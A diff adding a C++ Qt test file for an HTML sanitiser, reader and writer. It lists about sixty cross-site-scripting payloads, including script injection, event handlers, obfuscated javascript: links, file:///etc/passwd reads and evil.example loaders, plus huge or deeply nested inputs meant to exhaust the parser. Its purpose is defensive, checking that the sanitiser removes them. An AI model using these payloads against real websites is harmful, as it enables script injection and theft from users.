@@ -1,0 +1,401 @@
+// SPDX-FileCopyrightText: 2026 The Standfirst authors
+// SPDX-License-Identifier: GPL-3.0-or-later
+
+#include "formats/html.h"
+
+#include "formats/block_markup.h"
+#include "formats/inline_html.h"
+
+#include <QTest>
+
+using namespace core;
+using formats::readHtml;
+using formats::sanitise;
+using formats::writeHtml;
+
+namespace {
+
+QString outline(const Body &body)
+{
+    QStringList lines;
+    for (const Block &block : body.blocks) {
+        const QString kind = QStringLiteral("PHQLISO").mid(int(block.kind), 1);
+        const QString words = block.kind == BlockKind::Picture ? block.picture.remoteUrl : plainText(block);
+        lines.append(kind + QString::number(block.level) + (block.ordered ? QStringLiteral("o ") : QStringLiteral(" "))
+                     + words);
+    }
+    return lines.join(QLatin1Char('|'));
+}
+
+Body read(const QByteArray &html)
+{
+    return readHtml(html).valueOr({});
+}
+
+QByteArrayList attacks()
+{
+    return {
+        "<script>alert(1)</script>",
+        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+        "<scr<script>ipt>alert(1)</scr</script>ipt>",
+        "<img src=x onerror=alert(1)>",
+        "<img src='https://ok.example/a.jpg' onerror=alert(1) onload='alert(1)'>",
+        "<img src=\"javascript:alert(1)\">",
+        "<img src=\"data:text/html,<script>alert(1)</script>\">",
+        "<img src=\"file:///etc/passwd\">",
+        "<img src=\"&#102;ile:///etc/passwd\">",
+        "<img src=\" file:///etc/passwd\">",
+        "<img src=\"FILE:///etc/passwd\" srcset=\"file:///etc/passwd 2x\">",
+        "<a href=\"javascript:alert(1)\">x</a>",
+        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
+        "<a href=\"java\tscript:alert(1)\">x</a>",
+        "<a href=\"java&#10;script:alert(1)\">x</a>",
+        "<a href=\"&#x6a;avascript:alert(1)\">x</a>",
+        "<a href=\"\x01javascript:alert(1)\">x</a>",
+        "<a href=\" javascript:alert(1)\">x</a>",
+        "<a href=\"vbscript:msgbox(1)\">x</a>",
+        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
+        "<a href='https://ok.example/\" onclick=\"alert(1)'>x</a>",
+        "<svg onload=alert(1)><circle/></svg>",
+        "<svg><script>alert(1)</script></svg>",
+        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
+        "<iframe src=\"javascript:alert(1)\"></iframe>",
+        "<iframe srcdoc=\"<script>alert(1)</script>\">",
+        "<object data=\"x.swf\"><param name=a></object>",
+        "<embed src=\"x.swf\">",
+        "<form action=\"https://evil.example\"><input name=a onfocus=alert(1) autofocus><button>go</button></form>",
+        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
+        "<base href=\"https://evil.example/\">",
+        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
+        "<style>body{background:url(https://evil.example/x)}</style>",
+        "<p style=\"background:url(javascript:alert(1))\">x</p>",
+        "<p onmouseover=alert(1)>x</p>",
+        "<div/onclick=alert(1)>x</div>",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+        "<textarea><script>alert(1)</script></textarea>",
+        "<title><img src=x onerror=alert(1)></title>",
+        "<!--[if IE]><script>alert(1)</script><![endif]-->",
+        "<!--><script>alert(1)</script>-->",
+        "<!-- --!><img src=x onerror=alert(1)> -->",
+        "<template><script>alert(1)</script></template>",
+        "<details open ontoggle=alert(1)><summary>x</summary></details>",
+        "<video><source onerror=alert(1)></video>",
+        "<audio src=x onerror=alert(1)>",
+        "<marquee onstart=alert(1)>x</marquee>",
+        "<isindex action=javascript:alert(1)>",
+        "<x-y onclick=alert(1)>x</x-y>",
+        "<a href=\"https://ok.example\"><b><script>alert(1)</script></a>",
+        "<b><p><i></b>x</i><script>alert(1)</script>",
+        "\"><script>alert(1)</script>",
+        "<img src=\"https://ok.example/a\" alt=\"\"><script>alert(1)</script>\">",
+        "<p title=\"--><script>alert(1)</script>\">x",
+        "<table><td background=javascript:alert(1)>x",
+        "<plaintext><script>alert(1)</script>",
+        "<xmp><script>alert(1)</script></xmp>",
+        "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
+        "<select><option><script>alert(1)</script></option></select>",
+        "<<script>alert(1)//<</script>",
+        "<img \"\"\"><script>alert(1)</script>\">",
+        "<ul><li onclick=alert(1)><a href=tel:1 onclick=alert(1)>x</a></ul>",
+    };
+}
+
+// What must never stand in HTML that is shown: any tag but the allowed ones, any handler, any other scheme.
+QString danger(const QByteArray &html)
+{
+    static const QRegularExpression tag(QStringLiteral("<(/?)([a-zA-Z][^\\s>/]*)((?:[^>\"]|\"[^\"]*\")*)>"));
+    static const QRegularExpression attribute(QStringLiteral("([a-zA-Z:_-]+)=\"([^\"]*)\""));
+    static const QStringList tags =
+        QStringLiteral("p div section article header footer aside h1 h2 h3 h4 h5 h6 ul ol li dl dt dd "
+                       "pre hr table caption thead tbody tfoot tr td th figure figcaption blockquote "
+                       "details summary a b strong i em s del sub sup code kbd samp var span bdi bdo "
+                       "br img u ins mark small cite q abbr time dfn wbr")
+            .split(QLatin1Char(' '));
+    static const QStringList attributes =
+        QStringLiteral("href src alt title lang dir class colspan rowspan start width height").split(QLatin1Char(' '));
+    const QString text = QString::fromUtf8(html);
+    auto match = tag.globalMatch(text);
+    qsizetype found = 0;
+    while (match.hasNext()) {
+        const auto one = match.next();
+        ++found;
+        if (!tags.contains(one.captured(2)))
+            return one.captured();
+        auto values = attribute.globalMatch(one.captured(3));
+        QString rest = one.captured(3);
+        while (values.hasNext()) {
+            const auto value = values.next();
+            rest.remove(value.captured());
+            if (!attributes.contains(value.captured(1)))
+                return one.captured();
+            const bool address =
+                value.captured(1) == QLatin1String("href") || value.captured(1) == QLatin1String("src");
+            if (address && !value.captured(2).startsWith(QLatin1String("http"))
+                && !value.captured(2).startsWith(QLatin1String("tel:")))
+                return one.captured();
+        }
+        if (!rest.trimmed().isEmpty())
+            return one.captured();
+    }
+    return found == text.count(QLatin1Char('<')) ? QString() : QStringLiteral("a stray <");
+}
+
+} // namespace
+
+class HtmlTest : public QObject
+{
+    Q_OBJECT
+
+private slots:
+    void readsStructure();
+    void readsWhatWritersOfOtherProgramsMean_data();
+    void readsWhatWritersOfOtherProgramsMean();
+    void resolvesAddressesAgainstTheBase();
+    void leavesNothingDangerous();
+    void sanitiserIsStable();
+    void neverShowsAnOpaqueBlockRaw();
+    void refusesUnsafeLinksWhenWriting();
+    void writesListsNested();
+    void writesLanguageAndDirection();
+    void writesPictures();
+    void survivesHostileInput_data();
+    void survivesHostileInput();
+    void refusesWhatIsTooBig();
+    void readsItsOwnOutput();
+    void readsAndWritesInlineMarks();
+};
+
+void HtmlTest::readsStructure()
+{
+    QCOMPARE(
+        outline(read("<html><head><title>t</title><style>x</style></head><body><h1>One</h1><p>Two <b>three</b>\n four"
+                     "<ul><li>a<ol><li>b</ol><li>c</ul><blockquote><p>q<p>r</blockquote><hr>"
+                     "<div>x<div>y</div>z</div><table><tr><td>1<td>2</table>"
+                     "<figure><img src=https://ok.example/i.jpg alt=i><figcaption>Cap <span class=credit>Photo: N. B."
+                     "</span></figcaption></figure></body></html>")),
+        QStringLiteral("H2 One|P0 Two three four|L0 a|L1o b|L0 c|Q0 q|Q0 r|S0 |P0 x|P0 y|P0 z|P0 1|P0 2|"
+                       "I0 https://ok.example/i.jpg"));
+    const Picture picture =
+        read("<figure><img src=https://ok.example/i.jpg alt=i><figcaption>Cap <span class=credit>Photo: N. B."
+             "</span></figcaption></figure>")
+            .blocks.value(0)
+            .picture;
+    QCOMPARE(picture.caption, QStringLiteral("Cap"));
+    QCOMPARE(picture.credit, QStringLiteral("N. B."));
+}
+
+void HtmlTest::readsWhatWritersOfOtherProgramsMean_data()
+{
+    QTest::addColumn<QByteArray>("html");
+    QTest::addColumn<QByteArray>("clean");
+    QTest::newRow("documents on the web") << QByteArray(
+        "<b style=\"font-weight:normal\" id=\"docs-internal-guid-1\"><p dir=\"ltr\"><span style=\"font-weight:700\">"
+        "Bold</span><span style=\"font-style:italic\"> it</span></p><br><p>next</p></b>")
+                                          << QByteArray("<p><strong>Bold</strong><em> it</em></p>\n<p>next</p>\n");
+    QTest::newRow("two breaks part paragraphs")
+        << QByteArray("one<br><br>two<br>three") << QByteArray("<p>one</p>\n<p>two<br>three</p>\n");
+    QTest::newRow("hidden parts") << QByteArray(
+        "a<span style='display: none'>b</span><p hidden>c</p><span style='mso-hide:all'>d</span>")
+                                  << QByteArray("<p>a</p>\n");
+    QTest::newRow("word") << QByteArray(
+        "<p class=MsoNormal><o:p>Text</o:p><![if !supportLists]>x<![endif]></p><p class=MsoNormal>"
+        "&nbsp;</p>") << QByteArray("<p>Textx</p>\n");
+    QTest::newRow("paragraphs in an item")
+        << QByteArray("<ul><li><p>a</p><p>b</p></li></ul>") << QByteArray("<ul>\n<li>a<br>b</li>\n</ul>\n");
+    QTest::newRow("tracking pixel") << QByteArray("x<img src=https://t.example/p.gif width=1 height=1>y")
+                                    << QByteArray("<p>xy</p>\n");
+    QTest::newRow("language")
+        << QByteArray("<p>He said <span lang=fr>bonjour</span></p><p lang=fa dir=rtl>سلام</p>")
+        << QByteArray("<p>He said <span lang=\"fr\">bonjour</span></p>\n<p lang=\"fa\" dir=\"rtl\">سلام</p>\n");
+    QTest::newRow("entities") << QByteArray("<p>a&nbsp;b &amp;lt; &eacute; &#x2014;</p>")
+                              << QByteArray("<p>a\u00a0b &amp;lt; é —</p>\n");
+    QTest::newRow("relative link") << QByteArray("<p><a href='/x'>a</a> <a href='//h.example/y'>b</a></p>")
+                                   << QByteArray("<p>a <a href=\"https://h.example/y\">b</a></p>\n");
+}
+
+void HtmlTest::readsWhatWritersOfOtherProgramsMean()
+{
+    QFETCH(QByteArray, html);
+    QFETCH(QByteArray, clean);
+    QCOMPARE(writeHtml(read(html)), clean);
+}
+
+void HtmlTest::resolvesAddressesAgainstTheBase()
+{
+    formats::HtmlLimits limits;
+    limits.base = QUrl(QStringLiteral("https://ok.example/news/today.html"));
+    const Body body = readHtml("<p><a href=next.html>n</a></p><img src=/i.jpg>", limits).valueOr({});
+    QCOMPARE(writeHtml(body), "<p><a href=\"https://ok.example/news/next.html\">n</a></p>\n"
+                              "<figure><img src=\"https://ok.example/i.jpg\" alt=\"\"></figure>\n");
+}
+
+void HtmlTest::leavesNothingDangerous()
+{
+    for (const QByteArray &attack : attacks()) {
+        for (const QByteArray &html :
+             {attack, QByteArray("<p>a" + attack + "b</p>"), QByteArray("<table><tr>" + attack)}) {
+            QVERIFY2(danger(sanitise(html)).isEmpty(), QByteArray(html + "  =>  " + sanitise(html)).constData());
+            const QByteArray written = writeHtml(read(html));
+            QVERIFY2(danger(written).isEmpty(), QByteArray(html + "  =>  " + written).constData());
+            for (const Block &block : read(html).blocks) {
+                QVERIFY(block.picture.remoteUrl.isEmpty() || formats::isWebAddress(block.picture.remoteUrl));
+                for (const Span &span : block.spans)
+                    QVERIFY(span.marks.href.isEmpty() || formats::isSafeLink(span.marks.href));
+            }
+        }
+    }
+}
+
+void HtmlTest::sanitiserIsStable()
+{
+    for (const QByteArray &attack : attacks()) {
+        const QByteArray once = sanitise(attack);
+        QCOMPARE(sanitise(once), once);
+    }
+}
+
+void HtmlTest::neverShowsAnOpaqueBlockRaw()
+{
+    for (const QByteArray &attack : attacks()) {
+        const Body body = formats::readBlocks("<!-- wp:html -->" + attack + "<!-- /wp:html -->");
+        QByteArray html = writeHtml(body);
+        html.replace("class=\"site-block\"", "");
+        QVERIFY2(danger(html).isEmpty(), html.constData());
+    }
+}
+
+void HtmlTest::refusesUnsafeLinksWhenWriting()
+{
+    Body body;
+    Block block = textBlock(BlockKind::Paragraph, {});
+    for (const char *href :
+         {"javascript:alert(1)", " jAvascript:x", "java\nscript:x", "data:text/html,x", "file:///etc/passwd"}) {
+        Span span{QStringLiteral("x"), {}};
+        span.marks.href = QLatin1String(href);
+        block.spans = {span};
+        body.blocks = {block};
+        QCOMPARE(writeHtml(body), "<p>x</p>\n");
+    }
+    Block picture;
+    picture.kind = BlockKind::Picture;
+    picture.picture.remoteUrl = QStringLiteral("file:///etc/passwd");
+    body.blocks = {picture};
+    QCOMPARE(writeHtml(body), "");
+}
+
+void HtmlTest::writesListsNested()
+{
+    QCOMPARE(writeHtml(read("<ul><li>a<ol><li>b<li>c</ol><li>d</ul><ol><li>e</ol>")),
+             "<ul>\n<li>a<ol>\n<li>b</li>\n<li>c</li>\n</ol>\n</li>\n<li>d</li>\n</ul>\n<ol>\n<li>e</li>\n</ol>\n");
+}
+
+void HtmlTest::writesLanguageAndDirection()
+{
+    Body body;
+    Block block = textBlock(BlockKind::Paragraph, QStringLiteral("سلام"));
+    block.id = BlockId{QStringLiteral("b1")};
+    block.language = QStringLiteral("fa");
+    body.blocks = {block};
+    formats::HtmlWriteOptions options;
+    options.language = QStringLiteral("en-GB");
+    options.blockNames = formats::BlockNames::Write;
+    QCOMPARE(writeHtml(body, options), "<p lang=\"fa\" dir=\"rtl\" data-block=\"b1\">سلام</p>\n");
+    options.language = QStringLiteral("fa");
+    QCOMPARE(writeHtml(body, options), "<p data-block=\"b1\">سلام</p>\n");
+}
+
+void HtmlTest::writesPictures()
+{
+    Picture picture;
+    picture.media = MediaId{QStringLiteral("m")};
+    picture.alt = QStringLiteral("a \"b\" <c>");
+    picture.caption = QStringLiteral("Cap & tion");
+    picture.credit = QStringLiteral("N. <B>");
+    picture.width = 16;
+    picture.height = 10;
+    formats::HtmlWriteOptions options;
+    options.language = QStringLiteral("fr");
+    options.pictureAddress = [](const Picture &p) { return QString(QStringLiteral("pictures/") + p.media.value); };
+    QCOMPARE(
+        formats::writeFigure(picture, options, " class=\"lead\""),
+        "<figure class=\"lead\"><img src=\"pictures/m\" alt=\"a &quot;b&quot; &lt;c&gt;\" width=\"16\" height=\"10\">"
+        "<figcaption>Cap &amp; tion <span class=\"credit\">Photo: N. &lt;B&gt;</span></figcaption></figure>\n");
+}
+
+void HtmlTest::survivesHostileInput_data()
+{
+    QTest::addColumn<QByteArray>("html");
+    QTest::newRow("10,000 nested tables") << QByteArray("<table><tr><td>x").repeated(10000);
+    QTest::newRow("20,000 nested lists") << QByteArray("<ul><li>x").repeated(20000);
+    QTest::newRow("100,000 nested divisions") << QByteArray("<div>x").repeated(100000);
+    QTest::newRow("a word of 10 MB") << QByteArray(10'000'000, 'w');
+    QTest::newRow("1,000,000 items") << "<ul>" + QByteArray("<li>x").repeated(1000000);
+    QTest::newRow("200,000 unclosed marks") << QByteArray("<b><i>x<p>").repeated(100000);
+    QTest::newRow("100,000 links in one another") << QByteArray("<a href=https://a.example>x").repeated(100000);
+    QTest::newRow("different fonts") << QByteArray("<font size=1><p>x<font face=a>").repeated(60000);
+    QTest::newRow("open attribute") << QByteArray("<a href=\"x").repeated(300000);
+    QTest::newRow("open comments") << QByteArray("<!--<p>").repeated(500000);
+    QTest::newRow("open scripts") << QByteArray("<script></script \"").repeated(200000);
+    QTest::newRow("closing tags only") << QByteArray("</b></table></p>").repeated(90000);
+    QTest::newRow("less-than signs") << QByteArray(5'000'000, '<');
+    QTest::newRow("many attributes") << "<p " + QByteArray("a=b ").repeated(1000000) + ">x";
+    QTest::newRow("entities") << QByteArray("&#38;amp;&notanentity").repeated(200000);
+    QTest::newRow("nested svg") << QByteArray("<svg>").repeated(200000);
+    QTest::newRow("fostered") << "<table>" + QByteArray("x<b>").repeated(100000);
+}
+
+void HtmlTest::survivesHostileInput()
+{
+    QFETCH(QByteArray, html);
+    QElapsedTimer timer;
+    timer.start();
+    const Result<Body> body = readHtml(html);
+    const qint64 reading = timer.restart();
+    const QByteArray clean = sanitise(html);
+    qInfo() << QTest::currentDataTag() << html.size() / 1024 << "KB, read" << reading << "ms, sanitised"
+            << timer.elapsed() << "ms," << (body ? body->blocks.size() : -1) << "blocks";
+    QVERIFY(body || body.error().kind == Error::Kind::Invalid);
+    if (body) {
+        for (const Block &block : body->blocks) {
+            for (const QString &word : plainText(block).split(QLatin1Char(' ')))
+                QVERIFY(word.size() <= 2000 );
+        }
+    }
+}
+
+void HtmlTest::refusesWhatIsTooBig()
+{
+    const Result<Body> big = readHtml(QByteArray(21 * 1024 * 1024, ' '));
+    QCOMPARE(big.ok(), false);
+    QCOMPARE(big.error().kind, Error::Kind::Invalid);
+    QCOMPARE(readHtml(QByteArray("<p>x</p>").repeated(60000)).ok(), false);
+    QCOMPARE(readHtml(QByteArray("<p>x</p>").repeated(40000)).valueOr({}).blocks.size(), 40000);
+}
+
+void HtmlTest::readsItsOwnOutput()
+{
+    const Body body =
+        read("<h2>One</h2><p>Two <b>th<i>re</i>e</b> <a href=\"https://ok.example/?a&amp;b\">x</a><br>y <code>c</code>"
+             " <s>d</s><sub>e</sub><sup>f</sup></p><ul><li>a<ol><li>b</ol></ul><blockquote><p>q</blockquote><hr>"
+             "<figure><img src=https://ok.example/i.jpg alt='a\"b'><figcaption>C &lt; d</figcaption></figure>");
+    const Body again = read(writeHtml(body));
+    QVERIFY(sameContent(again, body));
+}
+
+void HtmlTest::readsAndWritesInlineMarks()
+{
+    using formats::readInline;
+    for (const char *html :
+         {"plain", "a <strong>b <em>c</em></strong> d", "<a href=\"https://x.example/?a&amp;b\">l</a>", "a<br>b",
+          "<span lang=\"fr\" dir=\"ltr\">x</span>y", "x<sub>2</sub><sup>3</sup><code>&lt;b&gt;</code><s>z</s>"}) {
+        const formats::InlineText text = readInline(html);
+        QVERIFY2(text.faithful, html);
+        QCOMPARE(formats::writeInline(text.spans), QByteArray(html));
+    }
+    for (const char *html : {"<u>x</u>", "<span class=\"x\">y</span>", "<b>x", "<b><i>x</b></i>", "<p>x</p>",
+                             "<!-- c -->", "<img src=\"x\">", "<a name=\"x\">y</a>", "<mark>x</mark>", "\xff"})
+        QVERIFY2(!readInline(html).faithful, html);
+}
+
+QTEST_APPLESS_MAIN(HtmlTest)
+#include "html_test.moc"
